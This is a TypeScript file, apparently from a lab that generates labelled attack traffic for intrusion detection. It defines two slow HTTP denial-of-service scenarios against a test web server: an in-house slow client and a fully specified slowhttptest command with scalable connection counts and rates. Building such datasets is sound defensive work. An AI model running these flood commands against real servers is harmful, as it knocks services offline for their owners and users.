import { WEB } from '../hosts.js';
import { OUTSIDE, own, type SetAttack } from './set_attack.js';

const CONNECTIONS = 200;
const CONNECTIONS_PER_SECOND = 20;

const slow = {
  kind: 'slow_http',
  stage: 'impact',
  technique: 'T1499.002',
  techniqueName: 'Endpoint Denial of Service: Service Exhaustion Flood',
  attackers: [OUTSIDE],
  victims: [WEB.address],
  host: 'outsider',
  seconds: 40,
  filter: `host ${OUTSIDE.address} and host ${WEB.address} and tcp port 80`,
} as const;

export const SLOW_HTTP: readonly SetAttack[] = [
  {
    ...slow,
    name: 'slow_http-own',
    tool: 'own slow client',
    split: 'tune',
    command: ({ intensity }) =>
      own('slow_client', WEB.address, CONNECTIONS * intensity, CONNECTIONS_PER_SECOND * intensity),
  },
  {
    ...slow,
    name: 'slow_http-slowhttptest',
    tool: 'slowhttptest',
    split: 'test',
    command: ({ intensity }) => [
      ...['slowhttptest', '-H', '-u', `http://${WEB.address}/`, '-i', '5', '-l', '90', '-p', '2'],
      ...['-c', String(CONNECTIONS * intensity)],
      ...['-r', String(Math.max(1, Math.round(CONNECTIONS_PER_SECOND * intensity)))],
    ],
  },
];
